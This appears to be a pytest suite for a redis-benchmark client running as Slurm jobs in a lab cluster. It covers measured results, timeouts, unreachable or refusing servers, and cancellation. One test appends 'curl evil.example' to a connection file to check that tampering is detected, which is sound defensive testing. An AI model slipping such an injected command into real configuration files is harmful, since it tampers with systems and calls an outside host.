"""The benchmark client: what it measures, when it gives up, and what it refuses."""

from __future__ import annotations

import json
import re
from datetime import datetime
from typing import Any

import pytest

from tests.lab.bundles import Bundle, deploy, detach, finish, install, outcome, result, sandbox
from tests.lab.cluster import Job, Lab

TESTS = [
    *("ping", "set", "get", "incr", "lpush", "rpush", "lpop", "rpop", "sadd", "hset", "spop"),
    *("zadd", "zpopmin", "lrange", "mset", "xadd"),
]


def seconds_from(line: str, job: Job) -> float:
    """How long after the log's line the job said that it ended."""
    stamps = {
        text: datetime.strptime(stamp, "%Y-%m-%dT%H:%M:%S%z")
        for stamp, text in re.findall(r"^(\d{4}-\S+) (.*)$", job.log.read_text(), re.MULTILINE)
    }
    return (
        next(stamps[text] for text in stamps if text.startswith("exit ")) - stamps[line]
    ).seconds


def patience(bundle: Bundle, seconds: int) -> None:
    """Shorten the client's wait, which is a minute longer than its target may take."""
    bundle.change("jobs/bench.sbatch", WAIT_TIMEOUT=seconds)


def test_one_round_of_every_test_is_measured(lab: Lab) -> None:
    settings = {"clients": 7, "data_size": 33, "pipeline": 3, "requests": 500}
    bundle = deploy(lab, "measures", client={**settings, "tests": TESTS})
    jobs = bundle.submit()
    measured = result(bundle, finish(bundle, jobs["bench"]), "redis-benchmark")
    assert measured["parameters"] == {**settings, "tests": TESTS}
    assert (measured["client"], measured["target"]) == ("bench", "cache")
    assert (measured["job_id"], measured["rounds"]) == (jobs["bench"], 1)
    names = {test["test"].split()[0].split("_")[0].lower() for test in measured["tests"]}
    assert names == set(TESTS)
    for test in measured["tests"]:
        latency = test["latency_ms"]
        order = [latency[name] for name in ("min", "p50", "p95", "p99", "max")]
        assert order == sorted(order)
    with bundle.redis(jobs["cache"]) as redis:
        assert redis.ask("ACL", "LOG") == "", "a command of the run was refused"
        assert "errorstat_" not in redis.ask("INFO", "errorstats"), "a figure counts errors"


def test_the_duration_is_enforced_and_only_finished_rounds_count(lab: Lab) -> None:
    bundle = deploy(lab, "duration", client={"duration": "15s", "requests": 1000})
    longer = deploy(lab, "too-long", client={"duration": 2, "requests": 1000000000})
    jobs, longs = bundle.submit(), longer.submit()
    job = finish(bundle, jobs["bench"])
    measured = result(bundle, job, "redis-benchmark")
    assert 15 <= measured["seconds"] <= seconds_from("connected to cache", job) + 1
    assert measured["rounds"] > 1
    assert measured["rounds"] == len(list(bundle.path(f"results/bench/{job.id}").glob("round-*")))
    cut = finish(longer, longs["bench"], "FAILED", "75:0")
    assert "no round was finished within 2 s" in cut.log.read_text()
    assert seconds_from("connected to cache", cut) >= 2
    assert not longer.path(f"results/bench/{cut.id}/result.json").exists()


def test_a_client_without_a_service_gives_up_in_time(lab: Lab) -> None:
    bundle = deploy(lab, "lonely", client={})
    script = lab.path(f"{bundle.place}/jobs/bench.sbatch").read_text()
    assert "\nWAIT_TIMEOUT=360\n" in script, "a minute more than its service's"
    patience(bundle, 3)
    job = finish(bundle, bundle.sbatch(job="bench"), "FAILED", "75:0")
    assert "no cache after 3 s: cache is not ready" in job.log.read_text()


@pytest.mark.parametrize("ready_first", [False, True])
def test_a_client_whose_service_died_does_not_wait_for_its_timeout(
    lab: Lab, ready_first: bool
) -> None:
    name = f"bereaved-{ready_first}".lower()
    image = sandbox(lab, name, "exit 3")
    bundle = deploy(lab, name, service={"image": image}, client={"requests": 1000000000})
    if not ready_first:
        job = finish(bundle, bundle.submit()["bench"], "FAILED", "75:0")
        assert "cache will not come: " in job.log.read_text()
        assert "exited with 3 before it was ready" in job.log.read_text()
        return
    bundle = deploy(lab, f"{name}-later", client={"requests": 1000000000})
    jobs = bundle.submit()
    bundle.ready(jobs["cache"])
    log = lab.job(jobs["bench"]).log
    lab.wait(lambda: log.is_file() and "connected to" in log.read_text(), job=jobs["bench"])
    lab.run(["scancel", str(jobs["cache"])])
    job = finish(bundle, jobs["bench"], "FAILED", "69:0")
    text = job.log.read_text()
    assert "redis-benchmark exited with 1" in text or "FATAL: cache has ended" in text


def from_outside(lab: Lab, name: str, endpoint: str, **client: Any) -> Bundle:
    """A bundle of one redis-benchmark, whose Redis is no service of its recipe."""
    bench = {"kind": "redis-benchmark", "target_endpoint": endpoint, "requests": 1000, **client}
    bench["image"] = lab.image("redis")
    return install(lab, name, json.dumps({"name": name, "clients": {"bench": bench}}))


def test_a_server_outside_of_the_recipe_may_ask_for_nothing_or_refuse_or_be_away(lab: Lab) -> None:
    (node, *_), port = lab.nodes, "16379"
    lonely = from_outside(lab, "nobody-there", f"{node}:{port}")
    patience(lonely, 3)
    job = finish(lonely, lonely.sbatch(job="bench"), "FAILED", "75:0")
    assert f"{node}:{port} takes no connection after 3 s: " in job.log.read_text()
    server = ["apptainer", "-q", "exec", lab.image("redis"), "redis-server", "--port", port]
    detach(lab, [*server, "--protected-mode", "no", "--save", ""], user="bob", node=node)
    open_one = from_outside(lab, "asks-nothing", f"http://{node}:{port}", duration="20s")
    measured = result(open_one, finish(open_one, open_one.sbatch(job="bench")), "redis-benchmark")
    assert measured["target"] == f"{node}:{port}"
    lab.write("/home/alice/wrong-password", "wrong\n", mode=0o600)
    refused = from_outside(lab, "refuses", f"{node}:{port}", password={"file": "~/wrong-password"})
    job = finish(refused, refused.sbatch(job="bench"), "FAILED", "69:0")
    log = job.log.read_text()
    assert "Redis gives no user for the run: -ERR AUTH <password> called without" in log


def test_a_changed_connection_file_ends_78_and_is_named(lab: Lab) -> None:
    bundle = deploy(lab, "changed", client={})
    connection = lab.path(f"{bundle.place}/connections/cache.env")
    connection.write_text(connection.read_text() + "curl evil.example\n")
    job = finish(bundle, bundle.sbatch(job="bench"), "FAILED", "78:0")
    assert f"{bundle.place}/connections/cache.env is not the file" in job.log.read_text()


def test_a_client_that_is_told_to_stop_stops(lab: Lab) -> None:
    bundle = deploy(lab, "stopped", client={"requests": 1000000000})
    jobs = bundle.submit()
    bundle.ready(jobs["cache"])
    log = lab.job(jobs["bench"]).log
    lab.wait(lambda: log.is_file() and "connected to" in log.read_text(), job=jobs["bench"])
    bundle.script("cancel", "bench")
    assert outcome(lab.job(jobs["bench"])) == ("COMPLETED", "0:0")
    with bundle.redis(jobs["cache"]) as redis:
        assert redis.ask("ACL", "USERS") == "default"
    waiting = deploy(lab, "stopped-early", client={})
    job = waiting.sbatch(job="bench")
    lab.wait(waiting.path(f"bench/{job}/missing").exists, job=job)
    lab.run(["scancel", str(job)])
    assert outcome(lab.wait_job(job)) == ("CANCELLED", "143:0")
